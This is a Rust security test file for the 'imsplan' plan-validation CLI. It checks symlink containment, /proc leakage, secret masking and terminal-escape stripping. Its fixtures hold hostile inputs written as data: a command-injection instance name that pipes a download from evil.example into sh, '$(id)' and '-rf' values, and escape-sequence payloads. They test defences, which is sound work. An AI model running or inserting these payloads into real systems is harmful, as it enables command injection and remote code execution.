//! Issue 15: nothing leaked, nothing injected. Hostile trees (symlinks out of the walked
//! folder, `/proc` files), hostile plans (shell metacharacters in instance names).

use std::path::Path;

use crate::common::{imsplan, path};

/// Run `imsplan ARGS`; (exit code, stdout and stderr together, stderr).
fn run(args: &[&str]) -> (i32, String, String) {
    let out = imsplan()
        .args(args)
        .timeout(std::time::Duration::from_secs(20))
        .output()
        .expect("imsplan runs");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned() + &stderr,
        stderr,
    )
}

fn s(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

const MARKER: &str = "leak-marker-7f3a9c";

/// A tree with one good plan and links out of it: to a text file (that would parse as
/// YAML and be quoted in snippets), to a folder, and to `/proc/self/environ`.
#[cfg(unix)]
#[test]
fn walks_follow_no_link_out_of_the_root() {
    use std::os::unix::fs::symlink;
    let dir = tempfile::tempdir().expect("tempdir");
    let outside = dir.path().join("outside");
    std::fs::create_dir(&outside).expect("mkdir");
    std::fs::write(
        outside.join("creds.yaml"),
        format!("aws_key: {MARKER}\nother: {MARKER}\n"),
    )
    .expect("write");
    let root = dir.path().join("plans");
    std::fs::create_dir_all(root.join("sub")).expect("mkdir");
    std::fs::copy(path("plans/acme-managed.yaml"), root.join("good.yaml")).expect("copy");
    symlink(outside.join("creds.yaml"), root.join("creds.yaml")).expect("symlink");
    symlink(&outside, root.join("elsewhere")).expect("symlink");
    symlink("/proc/self/environ", root.join("env.yaml")).expect("symlink");
    // Links inside the root are followed (a file reached twice is checked once).
    symlink("../good.yaml", root.join("sub/again.yaml")).expect("symlink");
    symlink("..", root.join("sub/up")).expect("symlink");
    for format in ["human", "json", "short"] {
        let mut cmd = imsplan();
        let out = cmd
            .env("IMSPLAN_TEST_SECRET", MARKER)
            .args(["validate", "--format", format, s(&root)])
            .timeout(std::time::Duration::from_secs(20))
            .output()
            .expect("runs");
        // The human report goes to stderr, the others to stdout: read both.
        let stdout = String::from_utf8_lossy(&out.stdout) + String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{format}: {stdout}");
        assert!(!stdout.contains(MARKER), "{format} leaked: {stdout}");
        assert!(!stdout.contains("PATH="), "{format} leaked the environment");
        for link in ["creds.yaml", "elsewhere", "env.yaml"] {
            assert!(
                stdout.contains(link) && stdout.contains("not followed"),
                "{format}: {link} not reported: {stdout}"
            );
        }
        if format == "short" {
            // good.yaml once (sub/again.yaml is the same file), three refused links.
            let errors = stdout.lines().filter(|l| l.contains("error[P001]")).count();
            assert_eq!(errors, 3, "{stdout}");
        }
    }
}

/// A file that is not a plan (NUL-separated `/proc` data, binary) is located, never shown.
#[cfg(target_os = "linux")]
#[test]
fn proc_files_are_located_not_shown() {
    let out = imsplan()
        .env("IMSPLAN_TEST_SECRET", MARKER)
        .args(["validate", "/proc/self/environ"])
        .output()
        .expect("runs");
    let stdout = String::from_utf8_lossy(&out.stdout) + String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(!stdout.contains(MARKER), "leaked: {stdout}");
    assert!(
        stdout.contains("/proc/self/environ:1:") && stdout.contains("error[P001]: not a plan"),
        "{stdout}"
    );
}

#[test]
fn non_plan_files_show_their_location_only() {
    let dir = tempfile::tempdir().expect("tempdir");
    let nul = dir.path().join("nul.yaml");
    std::fs::write(&nul, format!("A={MARKER}\0B={MARKER}\0")).expect("write");
    let long = dir.path().join("long.yaml");
    std::fs::write(&long, format!("x: [{}\n", MARKER.repeat(200))).expect("write");
    for (file, code) in [(&nul, "not a plan"), (&long, "invalid YAML")] {
        let (exit, out, _) = run(&["validate", s(file)]);
        assert_eq!(exit, 1, "{out}");
        assert!(out.contains(code), "{out}");
        assert!(!out.contains(MARKER), "content shown: {out}");
        assert!(out.len() < 2_000, "{} bytes of output", out.len());
    }
    // A plan with a syntax error on a normal line still gets its snippet.
    let short = dir.path().join("short.yaml");
    std::fs::write(&short, "format: 1\nname: [unclosed\n").expect("write");
    let (_, out, _) = run(&["validate", s(&short)]);
    assert!(out.contains("name: [unclosed"), "{out}");
}

const INJECTED: &str = r#"format: 1
name: inj
environments:
  stage:
    role: stage
    hosting: on-premise
    version: 7.4.1
    instances: ["x; curl http://evil.example/p | sh; #", "a$(id)b", "-rf", ok-1]
steps:
  - id: users-stage
    env: stage
    kind: migrate-users
"#;

#[test]
fn instance_names_with_shell_syntax_are_p002() {
    let dir = tempfile::tempdir().expect("tempdir");
    let plan = dir.path().join("inj.yaml");
    std::fs::write(&plan, INJECTED).expect("write");
    let (code, out, _) = run(&["validate", "--format", "short", s(&plan)]);
    assert_eq!(code, 1, "{out}");
    let p002: Vec<_> = out
        .lines()
        .filter(|l| l.contains("error[P002]") && l.contains("is not a valid instance name"))
        .collect();
    assert_eq!(p002.len(), 3, "{out}");
    assert!(!out.contains("`ok-1`"), "{out}");
    // No runbook for it.
    let (code, md, _) = run(&["runbook", s(&plan)]);
    assert_ne!(code, 0);
    assert!(!md.contains("```sh"), "{md}");
}

#[test]
fn runbook_shell_lines_name_valid_instances_bare() {
    let dir = tempfile::tempdir().expect("tempdir");
    let plan = dir.path().join("ok.yaml");
    let text = INJECTED
        .replace(
            r#"["x; curl http://evil.example/p | sh; #", "a$(id)b", "-rf", ok-1]"#,
            "[ok-1, Mkt_2]",
        )
        .replace(
            "kind: migrate-users",
            "kind: migrate-users\n  - id: ops-stage\n    env: stage\n    kind: migrate-operators",
        );
    std::fs::write(&plan, text).expect("write");
    let (code, md, err) = run(&["runbook", s(&plan)]);
    assert_eq!(code, 0, "{err}{md}");
    // Valid names make a runbook. No Adobe step of this plan runs a command per
    // instance any more: `setimsoauth` is not part of the technical-operator migration
    // (issue 13), so no shell line carries an instance name here.
    assert!(!md.contains("setimsoauth"), "{md}");
    assert!(!md.contains("-instance:"), "{md}");
}

/// Terminal escapes a plan can carry in double-quoted strings: OSC title, BEL, clear
/// screen, the one-character C1 CSI, a bidi override.
const EVIL: &str = r"\e]0;pwned\a\e[2J\u009b31m\u202eX";

fn raw_control(out: &str) -> Option<char> {
    out.chars()
        .find(|&c| (c.is_control() && c != '\n' && c != '\t') || c == '\u{202e}')
}

fn evil_plan(dir: &Path, name: &str, extra: &str) -> std::path::PathBuf {
    let text = std::fs::read_to_string(path("plans/globex-onprem.yaml"))
        .expect("example")
        .replace(
            "title: Globex on-premise move to Adobe IMS",
            &format!("title: \"Globex {EVIL}\""),
        )
        .replace(
            "title: Back up the production databases and serverConf.xml",
            &format!("title: \"Back up {EVIL}\"{extra}"),
        )
        .replace(
            "    notes: |\n      The full backup taken just before the upgrade is the one a rollback restores:\n      take it as late as the window allows.",
            &format!("    notes: \"{EVIL}\""),
        )
        .replace("owner: DBA team", &format!("owner: \"DBA {EVIL}\""));
    let file = dir.join(name);
    std::fs::write(&file, text).expect("write");
    file
}

#[test]
fn no_control_character_reaches_the_terminal() {
    let dir = tempfile::tempdir().expect("tempdir");
    let good = evil_plan(dir.path(), "good.yaml", "");
    let bad = evil_plan(
        dir.path(),
        "bad.yaml",
        &format!("\n    x-ok: 1\n    \"{EVIL}\": 1"),
    );
    let csv_plan = dir.path().join("csv.yaml");
    std::fs::write(
        &csv_plan,
        "format: 1\nname: c\nenvironments:\n  stage: {role: stage, hosting: on-premise, version: 7.4.1}\nsteps:\n  - {id: u, env: stage, kind: migrate-users, operators-csv: ops.csv}\n",
    )
    .expect("write");
    std::fs::write(
        dir.path().join("ops.csv"),
        "name,email\n\"a\x1b]0;t\x07\",\n\"b\u{9b}2J\",\n",
    )
    .expect("write");
    let example = path("plans/globex-onprem.yaml");
    let (g, b, c, e) = (s(&good), s(&bad), s(&csv_plan), s(&example));
    let runs: Vec<Vec<&str>> = vec![
        vec!["validate", b],
        vec!["validate", "--format", "short", b],
        vec!["validate", "--format", "github", b],
        vec!["validate", c],
        vec!["validate", "--format", "short", c],
        vec!["plan", g],
        vec!["plan", "--format", "markdown", g],
        vec!["next", g],
        vec!["runbook", g],
        vec!["diff", e, g],
        vec!["diff", "--format", "markdown", e, g],
    ];
    for args in runs {
        let (code, out, _) = run(&args);
        assert!(code == 0 || code == 1, "{args:?}: exit {code}\n{out}");
        assert!(out.len() > 40, "{args:?}: {out}");
        if let Some(c) = raw_control(&out) {
            panic!("{args:?}: raw U+{:04X} in\n{out}", u32::from(c));
        }
    }
    // The escapes are shown, not dropped.
    let (_, out, _) = run(&["plan", g]);
    assert!(out.contains(r"\u{1b}]0;pwned\u{7}"), "{out}");
}

/// Secrets hidden the ways issue 15 lists; each tail must never be printed.
const SECRET_PLAN: &str = r#"format: 1
name: s
x-db-password: hunter2TAILAAA1
x-list:
  refresh-token: [listTAILBBB2, listTAILBBB3]
  x-client-secret: {inner: mapTAILCCC4}
  x-token: tokTAILDDD5
x-esc: "p8e\x2dABCDEFGHIJKLMNOPQRSTAILEEE6"
x-jwt: "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.\
  SflKxwRJSMeKKF2QT4fwpMeJfTAILFFF7"
x-bin: !!binary cDhlLUFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaMDEyMzQ1
environments:
  stage: {role: stage, hosting: on-premise, version: 7.4.1}
steps:
  - id: users-stage
    env: stage
    kind: migrate-users
    notes: "call with Authorization: Bearer abcdefghijklmnopqrstuvwxyzTAILGGG8"
"#;

const BROKEN_SECRET_PLAN: &str = "format: 1
name: [unclosed
x-a: {user: bob, db-password: flowTAILHHH1, other: 1}
x-b:
  password: |
    blockTAILIII2
    blockTAILIII3
";

const TAILS: &[&str] = &[
    "TAILAAA1", "TAILBBB2", "TAILBBB3", "TAILCCC4", "TAILDDD5", "TAILEEE6", "TAILFFF7", "MDEyMzQ1",
    "TAILGGG8", "TAILHHH1", "TAILIII2", "TAILIII3", "TAILJJJ1", "TAILKKK2",
];

#[test]
fn secrets_are_found_and_masked_however_written() {
    let dir = tempfile::tempdir().expect("tempdir");
    let plan = dir.path().join("s.yaml");
    std::fs::write(&plan, SECRET_PLAN).expect("write");
    let broken = dir.path().join("b.yaml");
    std::fs::write(&broken, BROKEN_SECRET_PLAN).expect("write");
    let csv_plan = dir.path().join("c.yaml");
    std::fs::write(
        &csv_plan,
        "format: 1\nname: c\nenvironments:\n  stage: {role: stage, hosting: on-premise, version: 7.4.1}\nsteps:\n  - {id: u, env: stage, kind: migrate-users, operators-csv: ops.csv}\n",
    )
    .expect("write");
    std::fs::write(
        dir.path().join("ops.csv"),
        "name,email,Password\nbob,bob@x.com,csvTAILJJJ1\nzed,zed@x.com,\"p8e-ABCDEFGHIJKLMNOPQRSTAILKKK2\"\n",
    )
    .expect("write");
    let want = [(&plan, 8), (&broken, 2), (&csv_plan, 2)];
    for (file, n) in want {
        let (_, out, _) = run(&["validate", "--format", "short", s(file)]);
        let found = out.lines().filter(|l| l.contains("error[IMS012]")).count();
        assert_eq!(found, n, "{}: {out}", s(file));
        for format in ["human", "short", "json", "sarif", "github", "junit"] {
            let (code, out, _) = run(&["validate", "--format", format, s(file)]);
            assert_eq!(code, 1, "{format}: {out}");
            for tail in TAILS {
                assert!(!out.contains(tail), "{format} shows {tail}:\n{out}");
            }
        }
    }
}

#[test]
fn diff_markdown_mentions_no_one() {
    let dir = tempfile::tempdir().expect("tempdir");
    let old = path("plans/globex-onprem.yaml");
    let text = std::fs::read_to_string(&old).expect("example");
    let new = dir.path().join("new.yaml");
    std::fs::write(
        &new,
        text.replace(
            "owner: DBA team",
            "owner: \"@globex/dba-team and ops@globex.com\"",
        ),
    )
    .expect("write");
    let (code, out, err) = run(&["diff", "--format", "markdown", s(&old), s(&new)]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("owner"), "{out}");
    assert!(!out.contains("@globex/dba"), "pings: {out}");
    assert!(out.contains("@\u{2060}globex/dba"), "{out}");
    assert!(out.contains("ops@globex.com"), "email changed: {out}");
}

#[test]
fn a_tab_is_located_at_its_own_line_and_column() {
    let dir = tempfile::tempdir().expect("tempdir");
    let plan = dir.path().join("tab.yaml");
    std::fs::write(
        &plan,
        "format: 1\nname: t\nenvironments:\n  stage:\n    role: stage\n\thosting: managed\n    version: 7.4.1\nsteps: []\n",
    )
    .expect("write");
    let (_, out, _) = run(&["validate", "--format", "short", s(&plan)]);
    assert!(out.contains("tab.yaml:6:1: error[P001]"), "{out}");
    assert!(out.contains("a tab character"), "{out}");
    let (_, out, _) = run(&["validate", s(&plan)]);
    assert!(out.contains("a tab (drawn as spaces)"), "{out}");
}

#[test]
fn a_duration_past_the_calendar_is_p002_not_zero() {
    let dir = tempfile::tempdir().expect("tempdir");
    let text = std::fs::read_to_string(path("plans/globex-onprem.yaml")).expect("example");
    let plan = dir.path().join("d.yaml");
    std::fs::write(
        &plan,
        text.replacen("duration: 3h", "duration: 7304484d", 1),
    )
    .expect("write");
    let (code, out, _) = run(&["validate", "--format", "short", s(&plan)]);
    assert_eq!(code, 1, "{out}");
    assert!(
        out.contains("error[P002]: `7304484d` is longer than a step may last (3650 days)"),
        "{out}"
    );
    // Ten years is still a duration, and it counts.
    std::fs::write(&plan, text.replacen("duration: 3h", "duration: 3650d", 1)).expect("write");
    let (code, out, _) = run(&["plan", "--format", "json", s(&plan)]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("\"duration\": \"PT87600H\""), "{out}");
}

#[test]
fn a_long_cycle_is_labelled_in_a_window() {
    use std::fmt::Write as _;
    let dir = tempfile::tempdir().expect("tempdir");
    let n = 3_000;
    let mut text = String::from(
        "format: 1\nname: c\nenvironments:\n  stage: {role: stage, hosting: on-premise, version: 7.4.1}\nsteps:\n",
    );
    for i in 0..n {
        let prev = (i + n - 1) % n;
        let _ = writeln!(
            text,
            "  - {{id: s{i}, env: stage, kind: custom, after: [s{prev}], title: t}}"
        );
    }
    let plan = dir.path().join("cycle.yaml");
    std::fs::write(&plan, text).expect("write");
    let (code, out, _) = run(&["validate", s(&plan)]);
    assert_eq!(code, 1, "{}", &out[..out.len().min(2000)]);
    assert!(
        out.contains(&format!("a cycle of {n} steps")),
        "{}",
        &out[..out.len().min(2000)]
    );
    let labels = out.matches("runs after").count();
    assert!((1..=10).contains(&labels), "{labels} labels");
    assert!(out.len() < 20_000, "{} bytes", out.len());
}

/// `x-` values are skipped without building a tree (issue 15 item 14), but scanned for
/// secrets all the same, in an environment and in a step as at the top level.
const NESTED_EXTENSION_SECRETS: &str = r#"format: 1
name: s
environments:
  stage:
    role: stage
    hosting: on-premise
    version: 7.4.1
    x-env:
      db-password: [envTAILA1x, envTAILA2x]
      note: "p8e\x2dABCDEFGHIJKLMNOPQRSenvTAILB1"
steps:
  - id: users-stage
    env: stage
    kind: migrate-users
    x-step:
      - api-key: {k: stepTAILC1}
      - !!binary cDhlLUFCQ0RFRkdISUpLTE1OT1BRUlNUVVZXWFlaMDEyMzQ1
    x-token: stepTAILD1
"#;

#[test]
fn secrets_under_nested_extensions_are_found_and_masked() {
    let dir = tempfile::tempdir().expect("tempdir");
    let plan = dir.path().join("x.yaml");
    std::fs::write(&plan, NESTED_EXTENSION_SECRETS).expect("write");
    let (_, out, _) = run(&["validate", "--format", "short", s(&plan)]);
    let lines: Vec<&str> = out
        .lines()
        .filter(|l| l.contains("error[IMS012]"))
        .collect();
    // db-password (one finding, both items masked), the escaped `p8e-`, api-key, the
    // `!!binary` client secret, x-token.
    assert_eq!(lines.len(), 5, "{out}");
    for (line, at) in lines
        .iter()
        .zip(["9:21", "10:14", "16:22", "17:18", "18:14"])
    {
        assert!(line.contains(&format!(":{at}:")), "{at}: {out}");
    }
    for format in ["human", "short", "json", "sarif", "github", "junit"] {
        let (code, out, _) = run(&["validate", "--format", format, s(&plan)]);
        assert_eq!(code, 1, "{format}: {out}");
        for tail in [
            "TAILA1x", "TAILA2x", "TAILB1", "TAILC1", "MDEyMzQ1", "TAILD1",
        ] {
            assert!(!out.contains(tail), "{format} shows {tail}:\n{out}");
        }
    }
}
